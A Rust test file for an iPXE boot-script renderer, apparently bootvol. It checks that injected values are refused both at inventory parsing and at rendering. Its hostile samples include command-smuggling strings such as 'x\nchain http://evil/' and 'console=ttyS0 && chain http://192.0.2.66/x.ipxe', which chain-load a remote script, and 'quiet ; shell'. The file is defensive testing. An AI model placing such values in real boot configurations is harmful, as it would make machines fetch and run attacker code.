//! Hostile values: no value may add a line, an argument or a `${...}` expansion to a script.
//! They are refused at the edge (inventory files) and again by the renderer.

use serde_json::{Value, json};

use bootvol::inventory::{self, Format};
use bootvol::model::NodeRecord;

use crate::support::{config, render_record};

/// The last three are iPXE's command separators (`src/core/exec.c` splits a line at these whole
/// tokens): as a value each would start another command.
const HOSTILE: &[&str] = &[
    "x\nchain http://evil/",
    "${net0/ip}",
    "ok extra-argument",
    "trailing\\",
    "a#b",
    "tab\there",
    "&&",
    "||",
    ";",
];

fn base_nodes() -> Value {
    json!({"nodes": [
        {"name": "iscsi", "storage_interface": "external", "properties": {"capabilities": "iscsi_boot:true"},
         "ports": [{"address": "52:54:00:aa:00:01"}],
         "volume_connectors": [{"type": "iqn", "connector_id": "iqn.2024-01.org.example.node:a"}],
         "volume_targets": [{"volume_type": "iscsi", "boot_index": 0, "volume_id": "v1",
            "properties": {"target_iqn": "iqn.2024-01.org.example.san:v1", "target_portal": "192.0.2.5:3260",
                           "target_lun": 1, "auth_method": "CHAP", "auth_username": "u", "auth_password": "p",
                           "auth_reverse_username": "ru", "auth_reverse_password": "rp",
                           "san_filename": "\\EFI\\BOOT\\BOOTX64.EFI",
                           "target_portals": ["192.0.2.5:3260", "192.0.2.6:3260"],
                           "target_iqns": ["iqn.2024-01.org.example.san:v1", "iqn.2024-01.org.example.san:v2"],
                           "target_luns": [1, 2]}}]},
        {"name": "fc", "storage_interface": "external", "properties": {"capabilities": "fibre_channel_boot:true"},
         "volume_connectors": [{"type": "wwpn", "connector_id": "20000025b500000a"}],
         "volume_targets": [{"volume_type": "fibre_channel", "boot_index": 0, "volume_id": "v2",
            "properties": {"target_wwn": "500a0982991b8dc5", "target_lun": 0}}]},
        {"name": "aoe", "storage_interface": "external", "properties": {"capabilities": "aoe_boot:true"},
         "volume_targets": [{"volume_type": "aoe", "boot_index": 0, "volume_id": "v3",
            "properties": {"target_shelf": 0, "target_slot": 1}}]},
        {"name": "http", "storage_interface": "external", "properties": {"capabilities": "http_boot:true"},
         "volume_targets": [{"volume_type": "http", "boot_index": 0, "volume_id": "v4",
            "properties": {"url": "http://192.0.2.10/disk.img"}}]},
        {"name": "nfs", "storage_interface": "external", "properties": {"capabilities": "nfs_boot:true"},
         "instance_info": {"kernel": "vmlinuz", "ramdisk": "initrd.img"},
         "volume_targets": [{"volume_type": "nfs", "boot_index": 0, "volume_id": "v5",
            "properties": {"export": "192.0.2.7:/srv", "options": "vers=3"}}]},
        {"name": "nfsroot", "storage_interface": "external", "properties": {"capabilities": "nfs_boot:true"},
         "instance_info": {"kernel": "vmlinuz", "ramdisk": "initrd.img", "nfs_root": "192.0.2.7:/srv",
                           "nfs_options": "vers=3", "kernel_append_params": "console=ttyS0"}}
    ]})
}

/// Every field whose value reaches a script, as a JSON pointer into [`base_nodes`].
const SCRIPT_FIELDS: &[&str] = &[
    "/nodes/0/name",
    "/nodes/0/volume_connectors/0/connector_id",
    "/nodes/0/volume_targets/0/volume_id",
    "/nodes/0/volume_targets/0/properties/target_iqn",
    "/nodes/0/volume_targets/0/properties/target_portal",
    "/nodes/0/volume_targets/0/properties/target_lun",
    "/nodes/0/volume_targets/0/properties/auth_username",
    "/nodes/0/volume_targets/0/properties/auth_password",
    "/nodes/0/volume_targets/0/properties/auth_reverse_username",
    "/nodes/0/volume_targets/0/properties/auth_reverse_password",
    "/nodes/0/volume_targets/0/properties/san_filename",
    "/nodes/0/volume_targets/0/properties/target_portals/1",
    "/nodes/0/volume_targets/0/properties/target_iqns/1",
    "/nodes/0/volume_targets/0/properties/target_luns/1",
    "/nodes/1/volume_targets/0/properties/target_wwn",
    "/nodes/1/volume_targets/0/properties/target_lun",
    "/nodes/2/volume_targets/0/properties/target_shelf",
    "/nodes/2/volume_targets/0/properties/target_slot",
    "/nodes/3/volume_targets/0/properties/url",
    "/nodes/4/volume_targets/0/properties/export",
    "/nodes/4/volume_targets/0/properties/options",
    "/nodes/4/instance_info/kernel",
    "/nodes/4/instance_info/ramdisk",
    "/nodes/5/instance_info/nfs_root",
    "/nodes/5/instance_info/nfs_options",
];

#[test]
fn the_base_inventory_is_valid() {
    let dir = tempfile::tempdir().unwrap();
    inventory::parse(&base_nodes().to_string(), Format::Json, &config(dir.path())).unwrap();
}

#[test]
fn every_script_field_refuses_every_hostile_value_at_the_edge() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    for field in SCRIPT_FIELDS {
        for hostile in HOSTILE {
            let mut doc = base_nodes();
            *doc.pointer_mut(field).unwrap() = json!(hostile);
            let result = inventory::parse(&doc.to_string(), Format::Json, &config);
            let err = result.err().unwrap_or_else(|| panic!("{field} accepted {hostile:?}"));
            assert_eq!(err.0.len(), 1, "{field}: {err}");
            let node = field.split('/').nth(2).unwrap();
            let name = base_nodes()["nodes"][node.parse::<usize>().unwrap()]["name"]
                .as_str()
                .unwrap()
                .to_owned();
            assert!(
                err.0[0].starts_with(&format!("node {name}:")) || field.ends_with("/name"),
                "{field}: {err}"
            );
        }
    }
}

#[test]
fn kernel_append_params_split_on_spaces_but_refuse_lines_and_expansions() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    for hostile in [
        "console=ttyS0\nshell",
        "x=${net0/ip}",
        "a#b",
        "trailing\\",
        "console=ttyS0 && chain http://192.0.2.66/x.ipxe",
        "quiet || shell",
        "quiet ; shell",
        "&&",
    ] {
        let mut doc = base_nodes();
        doc["nodes"][5]["instance_info"]["kernel_append_params"] = json!(hostile);
        let err = inventory::parse(&doc.to_string(), Format::Json, &config).unwrap_err();
        assert!(
            err.to_string().contains("instance_info.kernel_append_params"),
            "{hostile:?}: {err}"
        );
    }
}

/// A record built without the edge's checks, as if the database had been written by hand.
fn unchecked_record(password: &str) -> NodeRecord {
    let record = json!({
        "node": {"uuid": "22222222-2222-4222-8222-000000000001", "name": "raw", "driver": "fake",
            "driver_info": {}, "properties": {"capabilities": "iscsi_boot:true"}, "instance_info": {},
            "driver_internal_info": {}, "extra": {}, "storage_interface": "external", "boot_interface": "ipxe",
            "deploy_interface": "direct", "power_state": null, "target_power_state": null,
            "provision_state": "active", "target_provision_state": null, "maintenance": false,
            "maintenance_reason": null, "last_error": null, "created_at": null, "updated_at": null},
        "ports": [{"uuid": "22222222-2222-4222-8222-000000000002", "address": "52:54:00:bb:00:01", "extra": {}}],
        "volume_connectors": [{"uuid": "22222222-2222-4222-8222-000000000003", "type": "iqn",
            "connector_id": "iqn.2024-01.org.example.node:raw", "extra": {}}],
        "volume_targets": [{"uuid": "22222222-2222-4222-8222-000000000004", "volume_type": "iscsi", "boot_index": 0,
            "volume_id": "v1", "extra": {},
            "properties": {"target_iqn": "iqn.2024-01.org.example.san:v1", "target_portal": "192.0.2.5:3260",
                           "auth_method": "CHAP", "auth_username": "u", "auth_password": password}}]
    });
    serde_json::from_value(record).unwrap()
}

#[test]
fn the_renderer_refuses_hostile_values_that_bypassed_the_edge() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path());
    assert_eq!(render_record(&config, Some(&unchecked_record("fine-secret"))).scenario, "iscsi");
    for hostile in HOSTILE {
        let script = render_record(&config, Some(&unchecked_record(hostile)));
        assert_eq!(script.scenario, "invalid", "{hostile:?}");
        assert!(
            script.problem.as_deref().unwrap().contains("cannot appear in an iPXE script")
                || script.problem.as_deref().unwrap().contains("backslash"),
            "{:?}",
            script.problem
        );
        assert!(!script.text.contains(hostile), "{hostile:?} reached the script");
        assert!(!script.text.contains("sanboot"));
        // The problem names the value; it is shown to the operator, never served to nodes.
        assert!(script.text.lines().any(|l| l == "exit"));
    }
}
